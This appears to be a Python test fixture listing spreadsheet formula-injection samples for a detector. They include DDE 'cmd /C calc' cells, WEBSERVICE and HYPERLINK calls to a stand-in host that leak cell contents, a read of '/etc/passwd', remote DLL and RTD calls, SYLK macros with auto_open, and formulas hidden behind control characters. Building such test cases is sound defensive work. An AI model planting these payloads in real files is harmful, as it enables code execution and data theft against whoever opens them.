"""Tables of text that fetch or run something as a spreadsheet opens them, each in its own way."""

from tests.vault.packed import R, Trap

_FETCH = 'WEBSERVICE("https://piege.test")'

_CELLS: dict[str, bytes] = {
    "a cell parted by the sign that the first line names": b"sep=^\na^=cmd|'/C calc'!A0\n",
    "a cell in quotes parted by that sign": b'sep=^\na^"=1+\nWEBSERVICE(1)"\n',
    "a cell parted by a letter": b"\"SEP=z\"\naz=cmd|'/C calc'!A0\n",
    "a cell that fetches in French": b'a;=SERVICEWEB("https://piege.test")\n',
    "a cell that links in French": b'a;=LIEN_HYPERTEXTE("https://piege.test?"&A1)\n',
    "a cell that links in the French of LibreOffice": b'a;=LIEN.HYPERTEXTE("https://piege.test")\n',
    "a cell that calls a library": b'a;=REGISTER.ID("//piege/a.dll";"a")\n',
    "a cell that asks a server": b'a;=RTD("piege.a";"piege";"a")\n',
    "a cell that shows a picture": b'a;=IMAGE( "https://piege.test/a.png")\n',
    "a cell that shows what another names": b"a;=IMAGE($B$2)\n",
    "a cell that takes in a table": b'a;=IMPORTCSV("https://piege.test/a.csv")\n',
    "a cell of a workbook on a share": b"a;='\\\\piege\\a\\[a.xlsx]A'!A1\n",
    "a cell of a workbook of the web": b"a;='https://piege.test/[a.xlsx]A'!A1\n",
    "a cell of a file of this machine": b"a;=INDIRECT(\"'file:///etc/passwd'#$A.A1\")\n",
    "a formula behind a separator of lines": f"a;=\u2028{_FETCH}\n".encode(),
    "a formula behind a form feed": f"a;=\f{_FETCH}\n".encode(),
    "symbolic links": b"ID;PWXL;N;E\r\nC;X1;Y1;K0;Ecmd|'/C calc'!A0\r\nE\r\n",
    "a macro among symbolic links": b'ID;P\nC;X1;Y9;EEXEC("calc")\nE\n',
    "a macro that begins by itself": b"ID;P\r\nNN;Nauto_open;ER1C1\r\nE\r\n",
    "a formula behind a next line": f"a;=\u0085{_FETCH}\n".encode(),
}

TABLES: dict[str, Trap] = {
    **{what: ("a.csv", content, R.TEXT_FORMULA) for what, content in _CELLS.items()},
    "a document called a text": ("a.txt", b"{\\rt\\object}", R.DISGUISED),
}
